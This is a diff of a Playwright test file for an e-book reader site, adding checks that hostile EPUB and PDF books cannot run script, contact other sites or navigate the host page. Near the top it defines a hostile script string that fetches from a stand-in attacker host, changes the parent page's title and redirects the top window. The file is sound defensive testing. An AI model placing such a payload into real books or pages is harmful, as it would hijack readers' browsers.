@@ -1,9 +1,12 @@
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
+import type { Page } from '@playwright/test';
 import { signInAsLena } from '../harness/learner';
 import { expect, test } from '../harness/test';
+import type { Site } from '../harness/site';
 import { texts } from '../harness/texts';
+import { bookOf, hostilePage, pdfOf } from './hostilePdf';
 
 const EVIL = 'https://evil.example';
 const THEFT = `fetch('${EVIL}/script'); parent.document.title = 'taken'; top.location = '${EVIL}/top';`;
@@ -59,32 +62,44 @@ const FILES: Record<string, string> = {
   'book.epub/inner.js': THEFT,
 };
 
-function writeBook(): string {
+/** Imports the files as a book that needs no purchase. */
+async function publishBook(site: Site, id: string, files: Record<string, string>): Promise<void> {
   const root = mkdtempSync(join(tmpdir(), 'lectern-hostile-'));
-  for (const [name, content] of Object.entries(FILES)) {
-    const file = join(root, 'books/hostile', name);
+  for (const [name, content] of Object.entries(files)) {
+    const file = join(root, 'books', id, name);
     mkdirSync(dirname(file), { recursive: true });
     writeFileSync(file, content);
   }
-  return root;
+  await site.lectern('content', 'import', root);
+  rmSync(root, { recursive: true });
 }
 
-test('a hostile EPUB reaches nothing of the site and loads nothing', async ({ page, site, allow }) => {
-  allow(/./);
-  const folder = writeBook();
-  await site.lectern('content', 'import', folder);
-  rmSync(folder, { recursive: true });
-  await signInAsLena(page);
+/** Records requests to the other site, which are refused, and the files that frames of the page load. */
+async function watchRequests(page: Page): Promise<{ evil: string[]; framed: string[] }> {
   const evil: string[] = [];
+  const framed: string[] = [];
   await page.context().route(`${EVIL}/**`, (route) => {
     evil.push(route.request().url());
     return route.abort();
   });
-  const framed: string[] = [];
   page.on('request', (request) => {
     if (request.frame() !== page.mainFrame() && /^https?:/.test(request.url()))
       framed.push(new URL(request.url()).pathname.replace(/^.*\//, ''));
   });
+  return { evil, framed };
+}
+
+async function expectUntouched(page: Page): Promise<void> {
+  expect(new URL(page.url()).pathname, 'the page stayed').toBe('/books');
+  expect(await page.title()).not.toContain('taken');
+  expect(page.context().pages(), 'no window was opened').toHaveLength(1);
+}
+
+test('a hostile EPUB reaches nothing of the site and loads nothing', async ({ page, site, allow }) => {
+  allow(/./);
+  await publishBook(site, 'hostile', FILES);
+  await signInAsLena(page);
+  const { evil, framed } = await watchRequests(page);
   await page.goto('/books?read=hostile');
   const book = page.frameLocator('iframe');
   await expect(book.getByRole('heading', { name: 'Quiet text' })).toBeVisible();
@@ -97,9 +112,7 @@ test('a hostile EPUB reaches nothing of the site and loads nothing', async ({ pa
 
   expect(evil, 'nothing was asked of another site').toEqual([]);
   expect(framed.sort(), 'the frame loads its page and its script').toEqual(['epub.html', 'epub.js']);
-  expect(new URL(page.url()).pathname, 'the page stayed').toBe('/books');
-  expect(await page.title()).not.toContain('taken');
-  expect(page.context().pages(), 'no window was opened').toHaveLength(1);
+  await expectUntouched(page);
   const leftover = book.locator('script, iframe, object, embed, form, input, base, meta, [onclick], [onerror]');
   await expect(leftover, 'the policy has nothing left to refuse').toHaveCount(0);
 
@@ -108,5 +121,37 @@ test('a hostile EPUB reaches nothing of the site and loads nothing', async ({ pa
   await page.getByRole('button', { name: texts.reader.previousPage }).click();
   await book.getByText('Another site').click();
   await page.waitForURL(`**/warning?code=leaving&to=${encodeURIComponent(`${EVIL}/page`)}`);
+  expect(evil).toEqual([]);
+});
+
+test('a hostile PDF runs nothing, loads nothing, and leads away only by a warning', async ({ page, site, allow }) => {
+  allow(/./);
+  await publishBook(site, 'hostile-pdf', bookOf(pdfOf(hostilePage(EVIL, THEFT))));
+  await publishBook(site, 'endless-pdf', bookOf(pdfOf({ pages: 12_000 })));
+  await signInAsLena(page);
+  const { evil, framed } = await watchRequests(page);
+  await page.goto('/books?read=hostile-pdf');
+  const book = page.frameLocator('iframe');
+  await expect(book.getByText('Quiet text')).toBeAttached();
+  const links = book.getByRole('link');
+  await expect(links).toHaveCount(5);
+  const named = await links.evaluateAll((all) => all.map((link) => link.getAttribute('aria-label') ?? ''));
+  expect(
+    named.filter((name) => !name.startsWith(`${EVIL}/`)),
+    'only addresses on the web',
+  ).toEqual([]);
+  await page.waitForTimeout(500);
+
+  expect(evil, 'nothing was asked of another site').toEqual([]);
+  expect(framed.sort()).toEqual(['pdf.html', 'pdf.js', 'pdf.worker.js']);
+  await expectUntouched(page);
+  const leftover = book.locator('script, iframe, object, embed, form, input, audio, video, img, svg');
+  await expect(leftover).toHaveCount(0);
+
+  await book.getByRole('link', { name: `${EVIL}/page`, exact: true }).click();
+  await page.waitForURL(`**/warning?code=leaving&to=${encodeURIComponent(`${EVIL}/page`)}`);
+  await page.goto('/books?read=endless-pdf');
+  await expect(page.getByRole('alert').getByText(texts.reader.fileTitle.broken)).toBeVisible();
+  await expect(page.locator('iframe')).toHaveCount(0);
   expect(evil).toEqual([]);
 });
